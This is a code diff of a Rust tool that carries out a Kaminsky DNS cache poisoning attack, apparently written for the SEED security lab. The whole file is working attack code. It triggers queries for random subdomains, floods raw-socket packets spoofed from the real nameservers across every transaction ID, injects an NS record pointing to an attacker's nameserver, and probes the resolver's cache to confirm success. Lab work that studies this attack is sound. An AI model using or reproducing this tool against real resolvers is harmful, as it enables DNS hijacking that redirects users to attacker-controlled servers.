@@ -1,140 +1,331 @@
 use crate::dns;
+use crate::pacer::{Pacer, PacerOptions};
+use crate::payload::{PayloadOptions, PayloadStrategy};
+use crate::rng;
 use crate::spoofer::Spoofer;
-use rand;
-use rand::seq::SliceRandom;
+use crate::stats::{AttackStats, PacingStats, Recorder};
+use crate::subdomain::{SubdomainGenerator, SubdomainKind, SubdomainOptions};
+use crate::verify;
+use crate::verify::ProbeSchedule;
+use rand::rngs::StdRng;
+use rand::RngCore;
 use std::net::Ipv4Addr;
 use std::time::{Duration, Instant};
 
-fn rand_alphanum_string(length: usize) -> String {
-    let mut rng = rand::thread_rng();
-    let alphanum: Vec<char> = ('a'..='z').chain('A'..='Z').chain('0'..='9').collect();
-    return (0..length)
-        .map(|_| alphanum.choose(&mut rng).unwrap())
-        .collect();
+/// Port spoofed responses are sent to unless told otherwise, as the SEED lab resolver is configured
+/// to query from this fixed port
+pub const DEFAULT_TARGET_PORT: u16 = 33333;
+
+/// Options that control how a Kaminsky attack is run
+pub struct AttackOptions {
+    /// Nameserver to advertise as authoritative for the target domain
+    pub attacker_ns: String,
+    /// Domain to poison, e.g. example.com
+    pub target_domain: String,
+    /// Address of the DNS server whose cache will be poisoned
+    pub target_server_addr: Ipv4Addr,
+    /// Addresses of the real nameservers for the target domain, responses are spoofed from these
+    pub spoofed_addrs: Vec<Ipv4Addr>,
+    /// UDP port the spoofed responses come from, the port the real nameservers answer on
+    pub spoofed_port: u16,
+    /// UDP port the target server sends its queries from, spoofed responses are sent to this port
+    pub target_port: u16,
+    /// Maximum number of rounds to run, if unset rounds are run until the duration runs out
+    pub rounds: Option<u32>,
+    /// How long to flood spoofed responses for in each round before moving on to a new subdomain
+    pub round_window: Duration,
+    /// Roughly how long the whole attack should run for
+    pub duration: Duration,
+    /// How long to wait after sending the triggering query before flooding spoofed responses
+    pub delay: Duration,
+    /// How the spoofed responses are laid out
+    pub payload: PayloadOptions,
+    /// How quickly spoofed responses may be sent, if unset they are sent as fast as possible
+    pub pacing: Option<PacerOptions>,
+    /// When to probe the target resolver's cache to check whether the attack succeeded
+    pub probe: ProbeSchedule,
+    /// Whether probes set RD, probes sent with RD=0 only read the resolver's cache
+    pub probe_recursion_desired: bool,
+    /// How the subdomains queried in each round are chosen
+    pub subdomains: SubdomainOptions,
+    /// Seed for the query IDs and subdomains, if unset every attack uses different ones
+    pub seed: Option<u64>,
+}
+
+impl AttackOptions {
+    pub fn new(
+        attacker_ns: String,
+        target_domain: String,
+        target_server_addr: Ipv4Addr,
+        spoofed_addrs: Vec<Ipv4Addr>,
+    ) -> AttackOptions {
+        return AttackOptions {
+            attacker_ns,
+            target_domain,
+            target_server_addr,
+            spoofed_addrs,
+            spoofed_port: 53,
+            target_port: DEFAULT_TARGET_PORT,
+            rounds: None,
+            round_window: Duration::new(1, 0),
+            duration: Duration::new(5, 0),
+            delay: Duration::new(0, 0),
+            payload: PayloadOptions::new(PayloadStrategy::Answer),
+            pacing: None,
+            probe: ProbeSchedule::Never,
+            probe_recursion_desired: true,
+            subdomains: SubdomainOptions::new(SubdomainKind::Mixed),
+            seed: None,
+        };
+    }
 }
 
 /// Runs a Kaminsky DNS cache poisoning attack against the target server for the target domain
 ///
-/// The duration argument specifies roughly how long the attack should run for
-pub fn attack(
-    attacker_ns: &str,
-    target_domain: &str,
-    target_server_addr: &Ipv4Addr,
-    spoofed_addrs: &[Ipv4Addr],
-    duration: Duration,
-    delay: Duration,
-) -> Result<(), String> {
-    const RAND_RESOURCE_LEN: usize = 7;
-    const TTL: u32 = 240;
+/// The attack is run in rounds. Each round triggers a query for a fresh random subdomain of the
+/// target domain and then floods spoofed responses for the round window. A round is lost as soon
+/// as the real answer arrives, so a new random subdomain is used for every round. Rounds continue
+/// until either the maximum number of rounds have been run or the duration runs out.
+///
+/// Metrics about the attack are returned. If probing is enabled, they include the round in which
+/// the attacker nameserver was found in the target server's cache. Probing after every round stops
+/// the attack as soon as it succeeds.
+pub fn attack(options: &AttackOptions) -> Result<AttackStats, String> {
+    let mut state = AttackState {
+        client: dns::Client::new(options.target_server_addr.to_string()),
+        subdomains: options.subdomains.generator()?,
+        rng: rng::new(options.seed),
+        recorder: Recorder::new(),
+        pacer: options.pacing.clone().map(Pacer::new),
+    };
+    let start = Instant::now();
+    let mut round: u32 = 0;
 
-    let client = dns::Client::new(target_server_addr.to_string());
+    while start.elapsed() < options.duration && options.rounds.map_or(true, |max| round < max) {
+        round += 1;
 
-    // Generates a random FQDN for the target domain, e.g. kjbs.example.com if targeting example.com
-    let rand_fqdn = format!(
-        "{}.{}",
-        rand_alphanum_string(RAND_RESOURCE_LEN),
-        target_domain
-    );
+        let remaining = options
+            .duration
+            .checked_sub(start.elapsed())
+            .unwrap_or(Duration::new(0, 0));
+        let window = std::cmp::min(options.round_window, remaining);
+
+        state.recorder.start_round();
+        run_round(options, &mut state, round, window)?;
+
+        if options.probe == ProbeSchedule::EachRound && probe(options, &mut state.rng)? {
+            state.recorder.record_success(round);
+            break;
+        }
+    }
+
+    if options.probe == ProbeSchedule::AtEnd && probe(options, &mut state.rng)? {
+        state.recorder.record_success(round);
+    }
+
+    let mut recorder = state.recorder;
+    if let Some(pacer) = state.pacer {
+        recorder.record_pacing(PacingStats {
+            rate: pacer.options().rate,
+            burst: pacer.options().burst,
+            ramp_up: pacer.options().ramp_up,
+            throttled: pacer.throttled(),
+        });
+    }
+
+    return Ok(recorder.finish());
+}
+
+/// Probes the target server's cache, returning whether the attacker nameserver was adopted
+fn probe(options: &AttackOptions, rng: &mut dyn RngCore) -> Result<bool, String> {
+    // A probe that goes unanswered should not abort the attack, it just means no success was seen
+    let report = match verify::probe(
+        &options.target_server_addr,
+        &options.target_domain,
+        &options.attacker_ns,
+        options.probe_recursion_desired,
+        rng,
+    ) {
+        Err(e) => {
+            eprintln!("Probe of the target server failed: {}", e);
+            return Ok(false);
+        }
+        Ok(r) => r,
+    };
 
     println!(
-        "Will launch an attack by sending a request for {}",
-        rand_fqdn
+        "Target server returned nameservers {:?} for {}",
+        report.nameservers, options.target_domain
     );
+    return Ok(report.poisoned);
+}
+
+/// State carried from one round of an attack to the next
+struct AttackState {
+    /// Client the triggering queries are sent with
+    client: dns::Client,
+    /// Picks the subdomain queried in each round
+    subdomains: Box<dyn SubdomainGenerator>,
+    /// Draws the subdomains and query IDs, seeded from the options
+    rng: StdRng,
+    recorder: Recorder,
+    /// Holds back spoofed responses to the configured rate, if pacing is enabled
+    pacer: Option<Pacer>,
+}
 
-    let request = dns::Query::new(vec![rand_fqdn.clone()]);
-    let request_message = request.to_message()?;
+/// Runs a single round of the attack: triggers a query for a new random subdomain and then floods
+/// spoofed responses for that subdomain until the window runs out
+fn run_round(
+    options: &AttackOptions,
+    state: &mut AttackState,
+    round: u32,
+    window: Duration,
+) -> Result<(), String> {
+    let (rand_fqdn, request_message) = round_query(
+        &options.target_domain,
+        state.subdomains.as_mut(),
+        &mut state.rng,
+    )?;
 
-    let mut response = dns::Response::new(request_message.clone());
-    response
-        .add_answer(dns::Record::A(dns::ARecord {
-            name: rand_fqdn,
-            ttl: 0, // we do not cache to avoid caching the random record
-            ip: [127, 0, 0, 1],
-        }))
-        .unwrap();
-    response
-        .add_authority(dns::Record::NS(dns::NSRecord {
-            name: String::from(target_domain),
-            ttl: TTL,
-            ns: String::from(attacker_ns),
-        }))
-        .unwrap();
+    eprintln!("\nRound {}: sending a request for {}", round, rand_fqdn);
+
+    let response = options.payload.build(
+        request_message.clone(),
+        &rand_fqdn,
+        &options.target_domain,
+        &options.attacker_ns,
+    )?;
 
     let response_message = response.to_message()?;
+    let response_size = response_message.to_bytes().len();
+
+    // Raw sockets are set up before the query is sent so that no time is lost once the race starts
+    let mut spoofers = Vec::new();
+    for addr in &options.spoofed_addrs {
+        let mut spoofer = match Spoofer::new(addr, &options.target_server_addr, response_size) {
+            Err(e) => return Err(e.to_string()),
+            Ok(s) => s,
+        };
+        spoofer.set_ports(options.spoofed_port, options.target_port);
+        spoofers.push(spoofer);
+    }
 
     let start = Instant::now();
 
     // Send query and then immediately commence the attack
-    client.send_message_no_recv(&request_message)?;
-
-    while start.elapsed() < duration {
-        for addr in spoofed_addrs {
-            let mut spoofer =
-                match Spoofer::new(addr, target_server_addr, response_message.to_bytes().len()) {
-                    Err(e) => return Err(e.to_string()),
-                    Ok(s) => s,
-                };
+    state.client.send_message_no_recv(&request_message)?;
 
-            // Wait to allow the outgoing dns request to be sent
-            std::thread::sleep(delay);
+    // Wait to allow the outgoing dns request to be sent
+    std::thread::sleep(options.delay);
 
-            spam_message(
+    while start.elapsed() < window {
+        for spoofer in spoofers.iter_mut() {
+            let covered = spam_message(
                 &response_message,
                 0..u16::max_value(),
-                &mut spoofer,
-                duration.checked_sub(start.elapsed()).unwrap_or(duration),
-            )?;
+                spoofer,
+                window
+                    .checked_sub(start.elapsed())
+                    .unwrap_or(Duration::new(0, 0)),
+                &mut state.recorder,
+                &mut state.pacer,
+            );
+            state.recorder.record_txids(covered);
         }
     }
 
     return Ok(());
 }
 
+/// Generates the subdomain of the target domain queried in a round, along with the query
+fn round_query(
+    target_domain: &str,
+    subdomains: &mut dyn SubdomainGenerator,
+    rng: &mut dyn RngCore,
+) -> Result<(String, dns::message::Message), String> {
+    // e.g. kjbs.example.com if targeting example.com
+    let rand_fqdn = format!("{}.{}", subdomains.next_name(rng), target_domain);
+    let request = dns::Query::new(vec![rand_fqdn.clone()]).to_message(rng)?;
+    return Ok((rand_fqdn, request));
+}
+
+/// Sends the message once for each id until either the ids or the duration run out
+///
+/// Sends are held back by the pacer, if there is one. Returns the number of ids that were covered.
 fn spam_message<T: Iterator<Item = u16>>(
     message: &dns::message::Message,
     ids: T,
     spoofer: &mut Spoofer,
     duration: Duration,
-) -> Result<(), String> {
+    recorder: &mut Recorder,
+    pacer: &mut Option<Pacer>,
+) -> u32 {
     let mut bytes = message.to_bytes();
     const ID_OFFSET: usize = 0;
 
     let start = Instant::now();
+    let mut covered: u32 = 0;
     for id in ids {
         let new_bytes = id.to_be_bytes();
         bytes[ID_OFFSET] = new_bytes[0];
         bytes[ID_OFFSET + 1] = new_bytes[1];
 
-        match spoofer.send_bytes(&bytes) {
-            Err(e) => return Err(e.to_string()),
-            _ => (),
-        };
+        // running out of time while waiting for the pacer ends the flood like any other timeout
+        if let Some(pacer) = pacer {
+            if !pacer.acquire(start + duration) {
+                break;
+            }
+        }
+
+        // A failed send only loses a single guess, so it is counted rather than ending the attack
+        let sent = spoofer.send_bytes(&bytes).is_ok();
+        recorder.record_send(sent);
+        if sent {
+            covered += 1;
+        }
 
         if start.elapsed() > duration {
-            eprintln!(
-                "Stopping early after {} seconds and {} iterations",
-                start.elapsed().as_secs_f32(),
-                id + 1
-            );
             break;
         }
     }
-    return Ok(());
+    return covered;
 }
 
 #[cfg(test)]
 mod tests {
-    use crate::kaminsky::rand_alphanum_string;
-    use std::collections::HashSet;
+    use crate::kaminsky::round_query;
+    use crate::rng;
+    use crate::subdomain::{SubdomainKind, SubdomainOptions};
 
     #[test]
-    fn test_random_string_reuses_chars() {
-        // number of alphanumeric characters
-        const NUM_CHARS: usize = 62;
-        let string = rand_alphanum_string(NUM_CHARS + 1);
-        let unique_chars: HashSet<char> = string.chars().collect();
-
-        assert_eq!(NUM_CHARS + 1, string.chars().count());
-        assert!(unique_chars.len() < string.chars().count());
+    fn seeded_round_queries_are_repeatable() {
+        let options = SubdomainOptions::new(SubdomainKind::Mixed);
+        let mut subdomains = options.generator().unwrap();
+        let mut rng = rng::new(Some(42));
+        let (first_fqdn, first) =
+            round_query("example.com", subdomains.as_mut(), &mut rng).unwrap();
+        let (second_fqdn, _) = round_query("example.com", subdomains.as_mut(), &mut rng).unwrap();
+
+        // the same seed replays the same subdomains and IDs, down to the exact packet bytes
+        let mut replay = rng::new(Some(42));
+        let (replayed_fqdn, replayed) = round_query(
+            "example.com",
+            options.generator().unwrap().as_mut(),
+            &mut replay,
+        )
+        .unwrap();
+        assert_eq!(first_fqdn, replayed_fqdn);
+        assert_eq!(first.to_bytes(), replayed.to_bytes());
+        assert_ne!(first_fqdn, second_fqdn);
+
+        assert_eq!("0FNzagW.example.com", first_fqdn);
+        let mut expected: Vec<u8> = vec![
+            0xd0, 0xe8, // id
+            1, 0, // RD set
+            0, 1, 0, 0, 0, 0, 0, 0, // one question
+        ];
+        expected.extend(b"\x070FNzagW\x07example\x03com\x00");
+        expected.extend(&[0, 1, 0, 1]); // A, IN
+        assert_eq!(expected, first.to_bytes());
     }
 }